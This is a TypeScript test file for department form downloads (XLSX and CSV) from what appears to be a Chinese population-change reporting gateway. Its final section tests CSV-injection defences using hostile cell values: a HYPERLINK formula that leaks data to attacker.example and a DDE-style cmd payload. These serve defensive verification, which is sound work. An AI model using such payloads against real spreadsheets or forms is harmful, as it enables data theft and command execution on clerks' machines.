/**
 * Departments download their forms for a period from the gateway, with the same bearer token:
 * a real XLSX workbook (read back with exceljs) and a CSV, holding exactly their own forms.
 */
import ExcelJS from 'exceljs';
import { FORMS } from '../domain/forms';
import { resolvePeriod, shanghaiToday } from '../domain/period';
import { parseCsv } from '../platform/csv';
import { parseExport } from '../subgraphs/community/adapters/community-registry/description';
import { consistentResidents } from '../systems/seed/population';
import { startStack, type Stack } from './support/stack';
import { deathOf, moveOf, report, waitForIntake } from './support/reports';

describe('form downloads', () => {
  let stack: Stack;
  const person = consistentResidents().find((r) => r.socialAssistance.subsistenceAllowance && r.elderlyDisability.elderlySubsidy)!;
  // A second allowance stopped this month, with no other civil-affairs or health benefit: the column of amounts has two to add up.
  const other = consistentResidents().find(
    (r) => r !== person && r.socialAssistance.subsistenceAllowance && !r.socialAssistance.specialHardship && !r.elderlyDisability.elderlySubsidy && !r.elderlyDisability.disabilitySubsidy && !r.health.familyPlanningAssistance && !r.health.deceased,
  )!;
  beforeAll(async () => {
    stack = await startStack();
    for (const p of [person, other]) {
      const res = await report(stack, deathOf(p));
      expect(res.data!.reportPopulationChange.status).toBe('COMPLETE');
    }
  }, 60_000);
  afterAll(() => stack?.close());

  // A form's content is personal data: the download declares its purpose like any read of it.
  const download = async (path: string, token: string | null) =>
    fetch(`${stack.gatewayUrl}${path}`, { headers: token ? { authorization: `Bearer ${token}`, 'x-purpose': 'monthly form returns' } : {} });

  it("gives civil affairs an XLSX a clerk can file: sheets named by the forms' Chinese titles, Chinese headers and words, amounts that sum, ID numbers as text", async () => {
    const res = await download('/exports/forms.xlsx?preset=THIS_MONTH', await stack.token('civil-affairs'));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('spreadsheetml');
    const { from, to } = resolvePeriod({ preset: 'THIS_MONTH' });
    const disposition = res.headers.get('content-disposition')!;
    expect(disposition).toContain(`filename="forms-civil-affairs-${from}_${to}.xlsx"`);
    expect(decodeURIComponent(/filename\*=UTF-8''([^;]+)/.exec(disposition)![1])).toBe(`民政部门-表单-${from}至${to}.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await res.arrayBuffer());
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['汇总', '最低生活保障注销审批表', '高龄老人津贴核减表']);
    const sheet = workbook.getWorksheet('最低生活保障注销审批表')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual(['表单编号', '表号', '表单名称', '部门', '变动日期', '生成时间（北京时间）', '上报编号', '状态', ...Object.values(FORMS.SUBSISTENCE_ALLOWANCE_CANCELLATION.fields).map((f) => f.title)]);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.columns.every((c) => typeof c.width === 'number' && c.width >= 8)).toBe(true);
    const column = (name: string) => header.indexOf(name) + 1;
    const rows = sheet.getRows(2, sheet.rowCount - 1)!;
    const byId = new Map(rows.map((r) => [r.getCell(column('身份证号')).value, r]));
    expect([...byId.keys()].sort()).toEqual([person.idNumber, other.idNumber].sort());
    const row = byId.get(person.idNumber)!;
    expect(row.getCell(column('身份证号')).type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getColumn(column('身份证号')).numFmt).toBe('@');
    expect(row.getCell(column('变动类型')).value).toBe('死亡');
    expect(row.getCell(column('部门')).value).toBe('民政部门');
    expect(row.getCell(column('上报时间')).value).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    // Amounts are number cells: a clerk's SUM over the column adds up to what was paid.
    const amounts = rows.map((r) => r.getCell(column('月发放金额（元）')));
    expect(amounts.map((c) => c.type)).toEqual([ExcelJS.ValueType.Number, ExcelJS.ValueType.Number]);
    const paid = [person, other].map((p) => p.socialAssistance.subsistenceAllowance!.monthlyAmount);
    expect(amounts.reduce((sum, c) => sum + (c.value as number), 0)).toBeCloseTo(paid[0] + paid[1], 2);
    const summary = workbook.getWorksheet('汇总')!;
    expect((summary.getRow(2).values as unknown[]).slice(1)).toEqual([1, '最低生活保障注销审批表', 2]);
  });

  it('gives health a CSV of its own forms only, UTF-8 with a BOM, Chinese headers and words', async () => {
    const res = await download('/exports/forms.csv?preset=THIS_MONTH', await stack.token('health'));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    expect(decodeURIComponent(/filename\*=UTF-8''([^;]+)/.exec(res.headers.get('content-disposition')!)![1])).toMatch(/^卫生健康部门-表单-\d{4}-\d{2}-01至\d{4}-\d{2}-\d{2}\.csv$/);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(bytes.toString('utf8'));
    expect(rows).toHaveLength(2);
    const cells = (name: string) => rows.map((r) => r[header.indexOf(name)]);
    expect(cells('表单名称')).toEqual(['死亡登记报告表', '死亡登记报告表']);
    expect(cells('部门')).toEqual(['卫生健康部门', '卫生健康部门']);
    expect(cells('变动类型')).toEqual(['死亡', '死亡']);
    expect(new Set(cells('性别'))).toEqual(new Set([person, other].map((p) => (Number(p.idNumber[16]) % 2 ? '男' : '女'))));
  });

  it('filters by type and by explicit dates', async () => {
    const res = await download('/exports/forms.csv?from=2020-01-01&to=2020-12-31', await stack.token('civil-affairs'));
    expect(parseCsv(await res.text())).toHaveLength(1); // the header alone
  });

  it('refuses without a token (401) and with a bad period (400 naming the rule)', async () => {
    expect((await download('/exports/forms.xlsx?preset=THIS_MONTH', null)).status).toBe(401);
    const bad = await download('/exports/forms.csv?from=2026-12-01&to=2026-01-01', await stack.token('hrss'));
    expect(bad.status).toBe(400);
    expect(JSON.stringify(await bad.json())).toContain('"rule":"order"');
  });

  describe('cells a spreadsheet would run as formulas (CSV injection)', () => {
    // Reported as an attacker would (through the gateway, as a worker of the community), on a day
    // of their own so the other downloads above do not see them.
    const day = new Date(Date.parse(shanghaiToday()) - 100 * 86_400_000).toISOString().slice(0, 10);
    const PLACE = '=HYPERLINK("http://attacker.example/?leak="&A1,"详情")';
    const CERTIFICATE = '-2-3-4';
    const DESTINATION = '@SUM(1+1)*cmd|\' /C calc\'!A0';
    const [dying, moving] = consistentResidents().filter((r) => r.community === person.community && r.idNumber !== person.idNumber && r.idNumber !== other.idNumber && !r.health.deceased);
    beforeAll(async () => {
      for (const input of [deathOf(dying, { effectiveDate: day, death: { place: PLACE, certificateNumber: CERTIFICATE } }), moveOf(moving, { effectiveDate: day, move: { destination: DESTINATION } })]) {
        const res = await report(stack, input);
        expect(res.errors).toBeUndefined();
        await waitForIntake(stack, res.data!.reportPopulationChange.id, (i) => i.deliveries.every((d) => d.status !== 'PENDING'));
      }
    }, 60_000);

    it('come out of /exports/forms.csv with a single quote in front, read by a CSV parser', async () => {
      const res = await download(`/exports/forms.csv?from=${day}&to=${day}`, await stack.token('community', person.community));
      expect(res.status).toBe(200);
      const [header, ...rows] = parseCsv(await res.text());
      const column = (name: string) => rows.map((r) => r[header.indexOf(name)]).filter((v) => v !== '');
      expect(column('死亡地点')).toContain(`'${PLACE}`);
      expect(column('死亡证明编号')).toContain(`'${CERTIFICATE}`);
      expect(column('迁往地')).toContain(`'${DESTINATION}`);
      // No cell of the file starts a formula.
      for (const cell of [...header, ...rows.flat()]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    it('stay text in the XLSX workbook (string cells, no formula)', async () => {
      const res = await download(`/exports/forms.xlsx?from=${day}&to=${day}`, await stack.token('community', person.community));
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(await res.arrayBuffer());
      const cells: ExcelJS.Cell[] = [];
      workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
      const place = cells.find((c) => c.value === PLACE);
      expect(place?.type).toBe(ExcelJS.ValueType.String);
      expect(cells.find((c) => c.value === DESTINATION)?.type).toBe(ExcelJS.ValueType.String);
      expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
    });

    it("come out of the community registry's own CSV export quoted, and the community subgraph's adapter reads the destination as given", async () => {
      const text = await (await fetch(`${stack.systems.COMMUNITY_REGISTRY.url}/registry/export.csv?community=${person.community}`)).text();
      const [header, ...rows] = parseCsv(text);
      const row = rows.find((r) => r[header.indexOf('idNumber')] === moving.idNumber)!;
      expect(row[header.indexOf('movedTo')]).toBe(`'${DESTINATION}`);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(parseExport(text).find((p) => p.idNumber === moving.idNumber)?.movedTo).toBe(DESTINATION);
    });
  });
});
